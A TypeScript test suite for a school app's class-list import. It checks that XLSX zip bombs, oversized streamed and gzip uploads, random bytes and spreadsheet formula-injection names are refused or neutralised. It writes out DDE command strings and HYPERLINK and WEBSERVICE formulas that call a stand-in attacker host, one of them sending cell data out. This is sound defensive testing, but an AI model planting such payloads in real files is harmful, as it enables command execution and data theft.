import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { IMPORT_MAX_BYTES, type ClassRoster, type ImportErrorCode, type ImportResult } from '@sferum/contracts';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import request from 'supertest';
import TestAgent from 'supertest/lib/agent';
import { XLSX_MAX_INFLATED_BYTES } from '../src/roster/import/xlsx-limits';
import { OrgFactory, TEST_PASSWORD } from './factories/org.factory';
import { xlsxBomb, xlsxOf } from './support/hostile-xlsx';
import { createTestApp } from './support/test-app';
import { firstOf, nth } from './support/pick';

const MB = 1024 * 1024;
const HEADER = ['Ученик', 'Родитель 1'];
const NOT_A_CLASS_LIST: ImportErrorCode[] = ['unreadable_file', 'missing_column', 'empty_file'];

/** The highest resident memory seen while `work` runs, above what it was before, sampled every 10 ms. */
async function peakGrowth<T>(work: () => Promise<T>): Promise<{ result: T; megabytes: number; seconds: number }> {
  const before = process.memoryUsage().rss;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
  const started = Date.now();
  try {
    const result = await work();
    peak = Math.max(peak, process.memoryUsage().rss);
    return { result, megabytes: (peak - before) / MB, seconds: (Date.now() - started) / 1000 };
  } finally {
    clearInterval(sampler);
  }
}

describe('hostile files to the class list import', () => {
  let app: NestExpressApplication;
  let factory: OrgFactory;
  let teacher: TestAgent;
  let sessionCookie: string;
  let origin: string;
  const classes: string[] = [];
  let nextClass = 0;
  const takeClass = () => nth(classes, nextClass++);

  beforeAll(async () => {
    app = await createTestApp({ LOGIN_LIMIT_PER_IP: '1000' });
    // A real port: the large uploads below are streamed over a socket.
    await app.listen(0, '127.0.0.1');
    origin = `http://127.0.0.1:${(app.getHttpServer().address() as AddressInfo).port}`;
    factory = await OrgFactory.connect();
    const districtId = await factory.district();
    const schoolId = await factory.school(districtId);
    for (let n = 0; n < 8; n += 1) classes.push(await factory.schoolClass(schoolId, 4, 'Г', `${2060 + n}/${2061 + n}`));
    const { email } = await factory.staff('teacher', { districtId, schoolId }, { classIds: classes });
    teacher = request.agent(app.getHttpServer());
    const login = await teacher.post('/api/auth/login').send({ email, password: TEST_PASSWORD }).expect(200);
    // The same session for the streamed uploads, which go around supertest.
    sessionCookie = firstOf(String(login.headers['set-cookie']?.[0] ?? '').split(';'));
  });

  afterAll(async () => {
    await factory.close();
    await app.close();
  });

  const upload = (classId: string, file: Buffer, name: string, mode: 'preview' | 'commit' = 'preview') =>
    teacher.post(`/api/classes/${classId}/import?mode=${mode}`).attach('file', file, name);
  const errorCodes = async (classId: string, file: Buffer, name: string) =>
    ((await upload(classId, file, name).expect(200)).body as ImportResult).errors.map((error) => error.code);
  const peopleIn = (classId: string) => factory.count(`SELECT count(*) FROM person WHERE class_id = $1`, [classId]);

  describe('XLSX zip bombs', () => {
    it('reads a small hand-made XLSX built like the bombs below, so that their refusal is about size alone', async () => {
      const classId = takeClass();
      const file = xlsxOf([HEADER, ['Бомбин Борис', 'Бомбина Вера']]);
      const result = (await upload(classId, file, 'list.xlsx').expect(200)).body as ImportResult;
      expect(result.errors).toEqual([]);
      expect(result.students.create).toBe(1);
      expect(result.parents.create).toBe(1);
    });

    it('refuses an XLSX whose sheet inflates to 400 MB before inflating it, at once and without a memory spike', async () => {
      const classId = takeClass();
      const bomb = await xlsxBomb([HEADER, ['Бомбин Борис', 'Бомбина Вера']], 400);
      // Small enough to pass the upload limit: the size check of the upload cannot catch it.
      expect(bomb.length).toBeLessThan(IMPORT_MAX_BYTES / 10);
      const { result, megabytes, seconds } = await peakGrowth(() => upload(classId, bomb, 'bomb.xlsx'));
      expect(result.status).toBe(200);
      expect((result.body as ImportResult).errors.map((error) => error.code)).toEqual(['unreadable_file']);
      expect(seconds).toBeLessThan(2);
      expect(megabytes).toBeLessThan(50);
      await upload(classId, bomb, 'bomb.xlsx', 'commit').expect(422);
      expect(await peopleIn(classId)).toBe(0);
    });

    it('refuses a zip bomb whose directory claims the sheet is 1 KB, inflating no more than the limit', async () => {
      const classId = takeClass();
      const liar = await xlsxBomb([HEADER, ['Бомбин Борис', 'Бомбина Вера']], 400, { lieAboutSize: true });
      const { result, megabytes, seconds } = await peakGrowth(() => upload(classId, liar, 'liar.xlsx'));
      expect(result.status).toBe(200);
      expect((result.body as ImportResult).errors.map((error) => error.code)).toEqual(['unreadable_file']);
      expect(seconds).toBeLessThan(2);
      expect(megabytes).toBeLessThan(XLSX_MAX_INFLATED_BYTES / MB + 50);
      expect(await peopleIn(classId)).toBe(0);
    });

    it('still reads a sheet just under the limit', async () => {
      const classId = takeClass();
      // One name of 15 MB: read, then refused as a name, not as a file.
      const big = await xlsxBomb([HEADER, ['Бомбин Борис', 'Бомбина Вера']], 15);
      expect(await errorCodes(classId, big, 'big.xlsx')).toEqual(['name_too_long']);
    });
  });

  it('answers a streamed 100 MB upload with 413 as soon as its length is known, without holding it in memory, and keeps serving', async () => {
    const classId = takeClass();
    const boundary = 'hostile-files-boundary';
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.csv"\r\nContent-Type: text/csv\r\n\r\n`,
    );
    const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
    const total = 100 * MB;
    const chunk = Buffer.alloc(MB, 'Ученик;Родитель 1\n');

    const { result, megabytes, seconds } = await peakGrowth(
      () =>
        new Promise<{ status: number; sentWhenAnswered: number }>((resolve, reject) => {
          let sent = 0;
          let answered = false;
          const upstream = http.request(`${origin}/api/classes/${classId}/import?mode=preview`, {
            method: 'POST',
            headers: {
              cookie: sessionCookie,
              'content-type': `multipart/form-data; boundary=${boundary}`,
              'content-length': String(head.length + total + tail.length),
            },
          });
          upstream.on('response', (response) => {
            answered = true;
            response.resume();
            resolve({ status: response.statusCode ?? 0, sentWhenAnswered: sent });
            upstream.destroy();
          });
          upstream.on('error', (error) => (answered ? undefined : reject(error)));
          // Streamed, a megabyte at a time and only as fast as the socket takes it: the test holds no 100 MB either.
          const pump = async () => {
            upstream.write(head);
            while (sent < total && !answered) {
              sent += chunk.length;
              if (!upstream.write(chunk)) await new Promise((resume) => upstream.once('drain', resume));
              await new Promise((resume) => setImmediate(resume));
            }
            if (!answered) upstream.end(tail);
          };
          pump().catch(reject);
        }),
    );
    expect(result.status).toBe(413);
    // Refused on its declared length, not after the whole body was read.
    expect(result.sentWhenAnswered).toBeLessThan(20 * MB);
    expect(seconds).toBeLessThan(10);
    // Multer keeps at most the 5 MB it allows; a server that buffered the body would need 100 MB more.
    expect(megabytes).toBeLessThan(90);
    process.stdout.write(
      `    100 MB upload: 413 after ${(result.sentWhenAnswered / MB).toFixed(0)} MB sent, ${seconds.toFixed(2)} s, peak +${megabytes.toFixed(0)} MB\n`,
    );

    await teacher.get('/api/health').expect(200);
    expect(await errorCodes(classId, Buffer.from('Ученик;Родитель 1\nПосле Бомбы;Мама\n'), 'after.csv')).toEqual([]);
  });

  it('answers a gzip-compressed JSON body that inflates to 100 MB with 413', async () => {
    const bomb = gzipSync(Buffer.from(`{"email":"${'a'.repeat(100 * MB)}"}`));
    expect(bomb.length).toBeLessThan(MB);
    const status = await new Promise<number>((resolve, reject) => {
      const upstream = http.request(`${origin}/api/auth/login`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'content-encoding': 'gzip',
          'content-length': String(bomb.length),
        },
      });
      upstream.on('response', (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
      });
      upstream.on('error', reject);
      upstream.end(bomb);
    });
    expect(status).toBe(413);
    await teacher.get('/api/health').expect(200);
  });

  it('reads random bytes named .xlsx or .csv as no class list, never as a server error', async () => {
    const classId = takeClass();
    const zipStart = Buffer.from([0x50, 0x4b, 0x03, 0x04]);
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ minLength: 1, maxLength: 8192 }),
        fc.constantFrom('list.xlsx', 'list.csv', 'list'),
        fc.boolean(),
        async (bytes, name, looksLikeZip) => {
          const file = looksLikeZip ? Buffer.concat([zipStart, Buffer.from(bytes)]) : Buffer.from(bytes);
          const response = await upload(classId, file, name);
          expect(response.status).toBe(200);
          const codes = (response.body as ImportResult).errors.map((error) => error.code);
          expect(codes.length).toBeGreaterThan(0);
          for (const code of codes) expect(NOT_A_CLASS_LIST).toContain(code);
        },
      ),
      { numRuns: 60 },
    );

    const workbook = readFileSync(join(__dirname, 'fixtures', 'class-list.xlsx'));
    const truncated = workbook.subarray(0, Math.floor(workbook.length * 0.6));
    const emptySheet = xlsxOf([]);
    expect(await errorCodes(classId, truncated, 'truncated.xlsx')).toEqual(['unreadable_file']);
    expect(await errorCodes(classId, emptySheet, 'empty.xlsx')).toEqual(['empty_file']);
    await upload(classId, truncated, 'truncated.xlsx', 'commit').expect(422);
    expect(await peopleIn(classId)).toBe(0);
  });

  describe('formulas', () => {
    const FORMULAS = [
      '=HYPERLINK("http://evil.example","Нажми")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=1+2',
    ];

    /** The export as bytes: supertest leaves XLSX and CSV bodies unread otherwise. */
    async function exported(classId: string, format: 'csv' | 'xlsx'): Promise<Buffer> {
      const response = await teacher
        .get(`/api/classes/${classId}/export?format=${format}`)
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200);
      return response.body as Buffer;
    }

    async function exportCsv(classId: string): Promise<string[][]> {
      // After the BOM.
      return parse((await exported(classId, 'csv')).subarray(3).toString('utf8'), { delimiter: ';' });
    }

    async function exportXlsx(classId: string): Promise<ExcelJS.Worksheet> {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await exported(classId, 'xlsx')) as unknown as ArrayBuffer);
      return firstOf(workbook.worksheets);
    }

    it('imports formula-like names from a CSV as text (a tab or CR before them trimmed), and neutralises them in both exports', async () => {
      const classId = takeClass();
      const rows = [HEADER, ...FORMULAS.map((formula, index) => [formula, `Родитель ${index}`]), ['\t=3+4', '\r=5+6']];
      const csv = Buffer.from(stringify(rows, { delimiter: ';' }));
      const result = (await upload(classId, csv, 'formulas.csv', 'commit').expect(200)).body as ImportResult;
      expect(result.errors).toEqual([]);

      const roster = (await teacher.get(`/api/classes/${classId}/roster`).expect(200)).body as ClassRoster;
      const names = roster.families.flatMap((family) =>
        [...family.students, ...family.parents].map((person) => person.displayName),
      );
      // Stored exactly as text: nothing evaluated, only the surrounding whitespace trimmed.
      expect(names).toEqual(expect.arrayContaining([...FORMULAS, '=3+4', '=5+6']));

      const dangerous = /^[=+\-@\t\r]/;
      const csvNames = (await exportCsv(classId)).slice(1).map((row) => nth(row, 3));
      expect(csvNames).toEqual(expect.arrayContaining([...FORMULAS, '=3+4', '=5+6'].map((name) => `'${name}`)));
      expect(csvNames.filter((name) => dangerous.test(name))).toEqual([]);

      const sheet = await exportXlsx(classId);
      const cells = Array.from({ length: sheet.rowCount - 1 }, (_, index) => sheet.getRow(index + 2).getCell(4));
      expect(cells.map((cell) => cell.type)).toEqual(cells.map(() => ExcelJS.ValueType.String));
      expect(cells.filter((cell) => dangerous.test(cell.text))).toEqual([]);
      expect(cells.map((cell) => cell.value)).toEqual(expect.arrayContaining(FORMULAS.map((name) => `'${name}`)));
    });

    it('takes a real XLSX formula’s cached value as text, and never its formula', async () => {
      const classId = takeClass();
      const file = xlsxOf([
        HEADER,
        [{ formula: 'HYPERLINK("http://evil.example","Злов Зиновий")', result: 'Злов Зиновий' }, 'Злова Зоя'],
        [{ formula: 'HYPERLINK("http://evil.example","x")', result: '' }, 'Пустова Полина'],
        ['=1+2', { formula: 'WEBSERVICE("http://evil.example/?"&A2)', result: 'Родитель Формулов' }],
      ]);
      const preview = (await upload(classId, file, 'formulas.xlsx').expect(200)).body as ImportResult;
      // The formula without a result gives an empty name: refused, not read as its formula.
      expect(preview.errors.map((error) => [error.row, error.code])).toEqual([[3, 'empty_name']]);
      const names = preview.preview.flatMap((row) => [row.student, ...row.parents.map((parent) => parent.name)]);
      expect(names.join('\n')).not.toMatch(/HYPERLINK|WEBSERVICE/);
      expect(names).toEqual(expect.arrayContaining(['Злов Зиновий', '=1+2', 'Родитель Формулов']));
    });
  });
});
